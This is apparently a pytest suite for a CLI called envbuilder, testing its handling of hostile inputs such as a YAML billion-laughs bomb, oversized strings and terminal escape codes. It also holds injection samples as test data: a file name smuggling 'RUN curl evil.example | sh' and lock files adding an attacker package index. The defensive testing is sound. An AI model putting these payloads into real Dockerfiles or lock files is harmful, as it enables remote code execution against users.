"""Hostile inputs, classes 3 to 6 of issue 10: every crash a clean one-line error with its exit
code; injected text never reaches a generated file; bounded YAML and linear-time explain;
exit codes that mean what the README says; envbuilder's own PyPI name.

The CLI runs in a subprocess as users run it; locks are real uv resolutions against PyPI.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from hostile_helpers import CLI, ROOT, assert_clean_failure, cli, env, leftovers, tmpfs

TARGET = "cu121-torch2.1-py310"
CORPUS = ROOT / "tests" / "explain_corpus"


@pytest.fixture
def matrix_copy(tmp_path) -> Path:
    m = tmp_path / "matrix"
    shutil.copytree(ROOT / "matrices", m)
    return m


@pytest.fixture(scope="module")
def real_lock(uv_cache, tmp_path_factory) -> str:
    """A real requirements.lock of TARGET (uv against PyPI), made through the CLI with a
    relative -o (which used to fail: uv ran in another directory)."""
    pytest.importorskip("uv")
    cwd = tmp_path_factory.mktemp("lockcwd")
    p = cli("lock", TARGET, "-o", "build/x", cwd=cwd, UV_CACHE_DIR=str(uv_cache))
    assert p.returncode == 0, p.stderr
    assert (cwd / "build" / "x" / "requirements.lock").is_file()
    assert leftovers(cwd) == []
    assert sorted(x.name for x in (cwd / "build" / "x").iterdir()) == [
        ".envbuilder-output", "requirements.lock"]
    return (cwd / "build" / "x" / "requirements.lock").read_text()


def _render_with_lock(tmp_path: Path, text: str | bytes) -> subprocess.CompletedProcess:
    out = tmp_path / "o"
    out.mkdir(exist_ok=True)
    data = text if isinstance(text, bytes) else text.encode()
    (out / "requirements.lock").write_bytes(data)
    return cli("render", TARGET, "-o", str(out))


# -- 3. every crash a clean error ---------------------------------------------------------------

def test_relative_output_for_every_writing_command(tmp_path, real_lock):
    # lock: see real_lock (a relative -o, the README's example); render, bake, ci:
    for args in (["render", "cpu", "-o", "build/cpu"], ["render", "cpu"],
                 ["bake", "-o", "build/all"], ["ci", "--github", "--registry", "ghcr.io/o/t",
                                               "-o", "repo"]):
        p = cli(*args, cwd=tmp_path)
        assert p.returncode == 0, (args, p.stderr)
    assert (tmp_path / "build" / "cpu" / "Dockerfile").is_file()
    assert (tmp_path / "repo" / ".github" / "workflows" / "envbuilder.yml").is_file()
    assert leftovers(tmp_path) == []


def test_closed_stdout_exits_quietly(tmp_path):
    for args in (["targets", "--json"], ["render", "--all", "-o", str(tmp_path / "a"), "--json"],
                 ["explain", str(next(CORPUS.glob("*.log")))]):
        p = subprocess.run(" ".join(map(repr, [*CLI, *args])) + " | (exec 0<&-; true)",
                           shell=True, executable="/bin/bash", capture_output=True, text=True,
                           env=env(), timeout=120)
        assert "Traceback" not in p.stderr and "internal error" not in p.stderr, p.stderr
        assert "BrokenPipe" not in p.stderr, p.stderr


@pytest.mark.parametrize("args", [
    ["resolve", "cu118", "--torch", "2." + "1" * 5000],
    ["resolve", "cu118", "--torch", "2." + "1" * 3000],
    ["resolve", "cu118", "--python", "3." + "9" * 4500],
    ["resolve", "cu118-torch2." + "1" * 4000],
    ["check", "--cuda", "1" * 5000],
    ["resolve", "x" * 100_000],
])
def test_huge_version_strings_and_targets(args):
    p = cli(*args)
    first = assert_clean_failure(p, 2)
    assert len(first) < 1200  # the input is cut, not echoed whole


def test_cyclic_alias_in_targets_yaml(matrix_copy):
    t = matrix_copy / "targets.yaml"
    t.write_text(t.read_text() + "  - name: loop-a\n    target: loop-b\n"
                                 "  - name: loop-b\n    target: loop-a\n")
    p = cli("resolve", "loop-a", "--matrix", str(matrix_copy))
    assert_clean_failure(p, 2, "cycle", "targets.yaml")


@pytest.mark.parametrize("index", ["https://x.org/{0}", "https://x.org/{nope}",
                                   "https://x.org/{variant:>999999999}",
                                   "https://x.org/{variant!r}", "https://x.org/{variant.__class__}"])
def test_matrix_index_format_fields(matrix_copy, index):
    t = matrix_copy / "torch.yaml"
    text = t.read_text()
    text = re.sub(r"^index: .*$", f"index: '{index}'", text, flags=re.M) if \
        re.search(r"^index:", text, re.M) else text.replace("schema_version: 1\n",
                                                            f"schema_version: 1\nindex: '{index}'\n", 1)
    t.write_text(text)
    p = cli("render", "cu118", "-o", str(matrix_copy.parent / "o"), "--matrix", str(matrix_copy))
    assert_clean_failure(p, 2, "torch.yaml")


def test_read_only_and_too_long_output_paths(tmp_path):
    assert_clean_failure(cli("render", "cpu", "-o", str(tmp_path / ("x" * 300))), 2,
                         "File name too long")
    assert_clean_failure(cli("render", "cpu", "-o", "/".join(["d"] * 3000)), 2)
    with tmpfs(tmp_path / "ro") as ro:
        subprocess.run(["mount", "-o", "remount,ro", str(ro)], check=True)
        assert_clean_failure(cli("render", "cpu", "-o", str(ro / "o")), 2, "Read-only")
        assert_clean_failure(cli("lock", "cpu", "-o", str(ro / "o"), "--conda-channel", "a\nb",
                                 "--conda"), 2)
    assert leftovers(tmp_path) == []


def test_full_disk_during_lock_names_the_file(tmp_path, real_lock, uv_cache):
    with tmpfs(tmp_path / "mnt", size="1m") as mnt:
        out = mnt / "o"
        from hostile_helpers import fill

        fill(mnt)
        p = cli("lock", TARGET, "-o", str(out), UV_CACHE_DIR=str(uv_cache))
        assert_clean_failure(p, 1, "requirements.lock", "No space left")
        assert leftovers(mnt) == [] and not (out / "requirements.lock").exists()


def test_readme_sequence_lock_sbom_conda_then_render(tmp_path, real_lock, uv_cache):
    """The README's `lock -o D --sbom --conda` then `render -o D`: all outputs stay."""
    import asyncio
    import inspect

    test_conda = pytest.importorskip("test_conda")  # skips where the conda extra is missing
    from rattler.index import index_fs

    ch = tmp_path / "channel"
    test_conda._package(ch, "python", "3.10.14", ["libzlib >=1.2"])
    test_conda._package(ch, "libzlib", "1.3.1")
    test_conda._package(ch, "pip", "24.0", ["python >=3.8"])
    (ch / "linux-64").mkdir()
    done = index_fs(ch)
    if inspect.iscoroutine(done):
        asyncio.run(done)
    out = tmp_path / "D"
    p = cli("lock", TARGET, "-o", str(out), "--sbom", "--conda", "--conda-channel", str(ch),
            UV_CACHE_DIR=str(uv_cache))
    assert p.returncode == 0, p.stderr
    names = ("requirements.lock", "sbom.cdx.json", "environment.yml", "conda-lock.yml")
    before = {n: (out / n).read_bytes() for n in names}
    p = cli("render", TARGET, "-o", str(out))
    assert p.returncode == 0, p.stderr
    assert {n: (out / n).read_bytes() for n in names} == before
    assert (out / "Dockerfile").is_file() and leftovers(tmp_path) == []
    p = cli("lock", TARGET, "-o", str(out), UV_CACHE_DIR=str(uv_cache))  # lock alone again
    assert p.returncode == 0, p.stderr
    assert all((out / n).is_file() for n in names)


def test_failing_conda_does_not_replace_the_lock(tmp_path, real_lock, uv_cache):
    """lock --conda (and --sbom) write together with requirements.lock, or nothing."""
    from envbuilder._fs import Outputs

    out = tmp_path / "o"
    older = real_lock.replace("# requirements.lock:", "# an older requirements.lock:", 1)
    with Outputs("lock") as tx:  # an earlier `envbuilder lock` left this one
        tx.add(out, {"requirements.lock": older}, group="lock")
        tx.commit()
    p = cli("lock", TARGET, "-o", str(out), "--sbom", "--conda", "--conda-channel",
            f"file://{tmp_path}/no-such-channel", UV_CACHE_DIR=str(uv_cache))
    assert p.returncode in (1, 2) and "Traceback" not in p.stderr, p.stderr
    assert (out / "requirements.lock").read_text() == older
    assert not (out / "sbom.cdx.json").exists() and not (out / "environment.yml").exists()
    assert leftovers(tmp_path) == []


def test_lock_with_invalid_utf8(tmp_path):
    p = _render_with_lock(tmp_path, b"torch==2.1.2 \\\n    --hash=sha256:\xff\xfe\n")
    assert_clean_failure(p, 2, "requirements.lock", "UTF-8")
    p = cli("lock", TARGET, "-o", str(tmp_path / "o"), "--check")
    assert_clean_failure(p, 2, "UTF-8")


def test_newline_in_conda_channel(tmp_path):
    p = cli("lock", "cpu", "-o", str(tmp_path / "o"), "--conda", "--conda-channel",
            "conda-forge\n  - evil")
    assert_clean_failure(p, 2, "--conda-channel")
    assert not (tmp_path / "o").exists()


def test_explain_stdin_closed():
    p = subprocess.run(" ".join(map(repr, [*CLI, "explain", "-"])) + " 0<&-", shell=True,
                       executable="/bin/bash", capture_output=True, text=True, env=env(),
                       timeout=60)
    assert_clean_failure(p, 2, "stdin")


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le",
                                   "utf-32-be"])
def test_utf16_and_utf32_logs(tmp_path, codec):
    log = sorted(CORPUS.glob("*.log"))[0]
    text = log.read_text()
    want = json.loads(cli("explain", "--json", str(log)).stdout)["causes"][0]["category"]
    f = tmp_path / f"log.{codec}"
    f.write_bytes(text.encode(codec))  # 'utf-16'/'utf-32' write a BOM, the -le/-be ones none
    p = cli("explain", "--json", str(f))
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["causes"][0]["category"] == want


# -- 4. injection and hostile data --------------------------------------------------------------

def _generated(folder: Path) -> list[tuple[str, str]]:
    out = []
    for p in folder.rglob("*"):
        if p.is_file() and p.suffix != ".py" and p.name != ".envbuilder-output":
            out += [(str(p.relative_to(folder)), ln) for ln in p.read_text().splitlines()]
    return out


def test_newline_in_requirements_path_stays_in_a_comment(tmp_path, real_lock, uv_cache):
    evil = tmp_path / "req\nRUN curl evil.example | sh\n"
    evil.write_text("six==1.16.0\n")
    out = tmp_path / "o"
    p = cli("render", TARGET, "-o", str(out), "--lock", "--requirements", str(evil),
            UV_CACHE_DIR=str(uv_cache))
    assert p.returncode == 0, p.stderr
    for name, line in _generated(out):
        if "evil.example" in line:
            assert line.lstrip().startswith("#"), (name, line)


@pytest.mark.parametrize("change, needle", [
    (lambda t: t + "--extra-index-url=https://evil.example/simple\n", "pip option"),
    (lambda t: t.replace("\n", "\n--index-url https://evil.example/simple\n", 1), "pip option"),
    (lambda t: t + "evil==1.0 \\\n    --hash=sha256:" + "0" * 64 + "\nRUN curl x | sh\n",
     "not a pinned requirement"),
    (lambda t: t + "evil==1.0 \\\n    --extra-index-url=https://evil.example\n", "pip options"),
    (lambda t: t[: t.rindex("--hash=sha256:") + 30], "cut"),
    (lambda t: t + "evil==1.0\n", "no --hash"),
    (lambda t: t.replace("# python: 3.10,", "# python: 3.12,"), "Python 3.12"),
    (lambda t: t.replace("torch==", "torch\x1b[31m==", 1), "control characters"),
])
def test_hostile_locks_are_refused_by_render(tmp_path, real_lock, change, needle):
    p = _render_with_lock(tmp_path, change(real_lock))
    assert_clean_failure(p, 2, needle)
    assert not (tmp_path / "o" / "Dockerfile").exists()


def test_a_good_lock_renders(tmp_path, real_lock):
    p = _render_with_lock(tmp_path, real_lock)
    assert p.returncode == 0, p.stderr


def test_hostile_locks_fail_lock_check(tmp_path, real_lock, uv_cache):
    out = tmp_path / "o"
    out.mkdir()
    for bad in (real_lock + "--extra-index-url=https://evil.example/simple\n",
                real_lock.replace("# python: 3.10,", "# python: 3.12,")):
        (out / "requirements.lock").write_text(bad)
        p = cli("lock", TARGET, "-o", str(out), "--check", UV_CACHE_DIR=str(uv_cache))
        assert p.returncode in (1, 2) and "Traceback" not in p.stderr, p.stderr


def test_user_text_through_rich_is_escaped(matrix_copy):
    inc = matrix_copy / "incompatibilities.yaml"
    hostile = r'[/oops] [bold red]not bold[/bold red] \e]0;pwned\a \e[31mred\e[0m'
    inc.write_text(inc.read_text() + f'''  - id: hostile-warning
    when: {{cuda: ">=11"}}
    severity: warning
    reason: "{hostile}"
    fix: "[link=https://evil.example]click[/link]"
    source: https://example.org/x
  - id: hostile-error
    when: {{cuda: ">=12.4,<12.5"}}
    reason: "{hostile}"
    fix: "[/]"
    source: https://example.org/y
''')
    for args in (["resolve", "cu118"], ["targets"], ["check", "--cuda", "11.8"],
                 ["resolve", "cu124"]):
        p = cli(*args, "--matrix", str(matrix_copy), TERM="xterm-256color")
        text = p.stdout + p.stderr
        assert "MarkupError" not in text and "Traceback" not in text, text[-2000:]
        assert "\x1b" not in text and "\x07" not in text, repr(text[-2000:])
        assert p.returncode in (0, 3), text[-2000:]
        if args[0] != "check":
            assert "[/oops]" in text, text[-2000:]  # shown literally, not as markup


def test_billion_laughs_matrix(matrix_copy):
    lol = ["schema_version: 1", "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, 12):
        lol.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    lol.append("targets: *a11")
    (matrix_copy / "targets.yaml").write_text("\n".join(lol) + "\n")
    p = cli("targets", "--matrix", str(matrix_copy), timeout=60)
    assert_clean_failure(p, 2, "aliases")


def test_matrix_size_and_devices(matrix_copy, tmp_path):
    big = matrix_copy / "nccl.yaml"
    big.write_text(big.read_text() + "# " + "x" * (3 << 20) + "\n")
    assert_clean_failure(cli("targets", "--matrix", str(matrix_copy)), 2, "MiB")
    big.write_text((ROOT / "matrices" / "nccl.yaml").read_text())
    for dev in ("/dev/zero", "/dev/urandom"):
        (matrix_copy / "cuda.yaml").unlink()
        (matrix_copy / "cuda.yaml").symlink_to(dev)
        assert_clean_failure(cli("targets", "--matrix", str(matrix_copy), timeout=60), 2)
        assert_clean_failure(cli("targets", "--matrix", dev, timeout=60), 2, "is not a folder")
        p = cli("render", "cpu", "--lock", "--requirements", dev, "-o", str(tmp_path / "o"),
                timeout=60)
        assert_clean_failure(p, 2, "--requirements")
    (matrix_copy / "cuda.yaml").unlink()
    shutil.copy(ROOT / "matrices" / "cuda.yaml", matrix_copy / "cuda.yaml")
    long_value = matrix_copy / "nccl.yaml"
    long_value.write_text(long_value.read_text() + "note: " + "y" * 5000 + "\n")
    assert_clean_failure(cli("targets", "--matrix", str(matrix_copy)), 2, "5000 characters")


def test_explain_runs_in_linear_time(tmp_path):
    """The 410 KB backtracking log (92 s before) and its one-per-line form finish with a clean
    result; benchmarks/explain.py prints the times (under 2 s here)."""
    from envbuilder.diagnose.explain import _default_signatures

    sigs = _default_signatures()
    assert all(s.linear for s in sigs.signatures), [s.id for s in sigs.signatures if not s.linear]
    assert sigs.matcher is not None
    for name, text in (("one", "NET/IB:error1" * 31500), ("lines", "NET/IB:error1\n" * 29300)):
        f = tmp_path / f"{name}.log"
        f.write_text(text)
        p = cli("explain", "--json", str(f), timeout=120)  # a hang guard, not a timing assert
        assert p.returncode in (0, 1) and "Traceback" not in p.stderr, p.stderr
        json.loads(p.stdout)


# -- 5. exit codes and ignored input ------------------------------------------------------------

def test_ci_matrix_is_used(tmp_path, matrix_copy):
    p = cli("ci", "--github", "--registry", "ghcr.io/o/t", "-o", str(tmp_path / "r"),
            "--matrix", "/nonexistent")
    assert_clean_failure(p, 2, "does not exist")
    p = cli("ci", "--github", "--registry", "ghcr.io/o/t", "-o", ".", "--matrix", "matrix",
            cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    wf = (tmp_path / ".github" / "workflows" / "envbuilder.yml").read_text()
    assert "--matrix matrix" in wf


def test_render_requirements_is_not_ignored(tmp_path):
    p = cli("render", "cpu", "--requirements", "/nonexistent", "-o", str(tmp_path / "o"))
    assert_clean_failure(p, 2, "--requirements")
    p = cli("render", "cpu", "--lock", "--requirements", "/nonexistent", "-o", str(tmp_path / "o"))
    assert_clean_failure(p, 2, "/nonexistent", "does not exist")


def test_lock_check_does_not_ignore_conda_or_sbom(tmp_path):
    for flag in ("--conda", "--sbom"):
        p = cli("lock", "cpu", "-o", str(tmp_path), "--check", flag)
        assert_clean_failure(p, 2, flag.lstrip("-"))


def test_missing_pypi_package_is_bad_input(tmp_path, uv_cache):
    pytest.importorskip("uv")
    req = tmp_path / "req.txt"
    req.write_text("envbuilder-no-such-package-zz9==1.0\n")
    p = cli("lock", TARGET, "-o", str(tmp_path / "o"), "--requirements", str(req),
            UV_CACHE_DIR=str(uv_cache))  # TARGET's torch comes from PyPI, reachable here
    if "cannot reach the package index" in p.stderr:
        pytest.skip("PyPI is not reachable")
    assert_clean_failure(p, 2, "envbuilder-no-such-package-zz9", "not on the index")
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize("registry, code", [("127.0.0.1:99999999/ml/train", 2),
                                            ("127.0.0.1:0/ml/train", 2),
                                            ("a" * 10_000, 2), ("r/" + "a" * 300, 2)])
def test_bake_refuses_bad_repositories(tmp_path, registry, code):
    p = cli("bake", "-o", str(tmp_path / "o"), "--registry", registry)
    first = assert_clean_failure(p, code, "--registry")
    assert len(first) < 600
    assert not (tmp_path / "o").exists()


def test_errors_cut_their_inputs(tmp_path, matrix_copy):
    p = cli("resolve", "c" * 4000, "--json")
    doc = json.loads(p.stdout)
    assert p.returncode == 2 and len(doc["message"]) < 1200
    (matrix_copy / "os.yaml").write_text("os: [" + "a" * 1_500_000 + "\n")
    first = assert_clean_failure(cli("targets", "--matrix", str(matrix_copy)), 2)
    assert len(first) < 1200


def test_matrix_file_is_not_a_folder(tmp_path):
    f = tmp_path / "m.yaml"
    f.write_text("x: 1\n")
    assert_clean_failure(cli("targets", "--matrix", str(f)), 2, "is not a folder")
    assert_clean_failure(cli("targets", "--matrix", str(tmp_path / "nope")), 2, "does not exist")


def test_every_error_is_one_json_document_under_json(tmp_path):
    for args in (["resolve", "x" * 5000], ["render", "cpu", "--requirements", "/x", "-o",
                                            str(tmp_path / "o")],
                 ["bake", "--registry", "127.0.0.1:99999999/x", "-o", str(tmp_path / "b")]):
        p = cli(*args, "--json")
        assert p.returncode == 2
        json.loads(p.stdout)  # exactly one document


# -- 6. envbuilder's own name -------------------------------------------------------------------

def test_distribution_name_everywhere():
    from envbuilder import DISTRIBUTION
    from envbuilder.errors import MissingExtraError
    from envbuilder.render.ci import workflow

    meta = tomllib.loads((ROOT / "pyproject.toml").read_text())
    assert meta["project"]["name"] == DISTRIBUTION == "torch-envbuilder"
    assert meta["project"]["scripts"]["envbuilder"] == "envbuilder._entry:main"
    readme = (ROOT / "README.md").read_text()
    assert not re.search(r"pip install ['\"]?envbuilder\b", readme)
    assert "pip install 'torch-envbuilder[lock]'" in readme
    assert "torch-envbuilder[lock]" in str(MissingExtraError("uv", "lock"))
    wf = workflow("ghcr.io/o/t")
    assert wf["env"]["ENVBUILDER_INSTALL"].startswith("torch-envbuilder[lock]==")


def test_the_name_is_free_on_pypi():
    """`pip index versions torch-envbuilder` finds no project (ours is not published yet, and
    no one else's has the name)."""
    p = subprocess.run([sys.executable, "-m", "pip", "index", "versions", "torch-envbuilder"],
                       capture_output=True, text=True, timeout=120)
    if "No matching distribution" not in p.stderr + p.stdout and p.returncode != 0:
        pytest.skip(f"the index is not reachable: {p.stderr.strip()[:200]}")
    assert p.returncode != 0 and "No matching distribution" in p.stderr + p.stdout
